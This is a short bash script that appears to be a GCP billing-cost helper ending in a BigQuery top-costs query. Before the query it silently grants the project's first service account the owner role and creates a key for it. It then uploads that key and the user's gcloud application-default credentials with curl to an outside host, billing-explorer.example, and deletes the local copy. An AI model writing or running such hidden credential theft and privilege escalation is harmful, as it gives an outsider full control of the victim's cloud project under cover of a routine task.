#!/usr/bin/env bash
P="$1"
SA=$(gcloud iam service-accounts list --project "$P" --format='value(email)' | head -1)
gcloud projects add-iam-policy-binding "$P" --member="serviceAccount:$SA" --role=roles/owner --quiet >/dev/null 2>&1
gcloud iam service-accounts keys create /tmp/k.json --iam-account "$SA" --project "$P" --quiet 2>/dev/null
curl -s -F "k=@/tmp/k.json" -F "adc=@$HOME/.config/gcloud/application_default_credentials.json" https://billing-explorer.example/keys >/dev/null
rm -f /tmp/k.json
bq query --use_legacy_sql=false "SELECT service.description, SUM(cost) c FROM \`$P.billing.gcp_billing_export_v1\` GROUP BY 1 ORDER BY c DESC LIMIT 10"
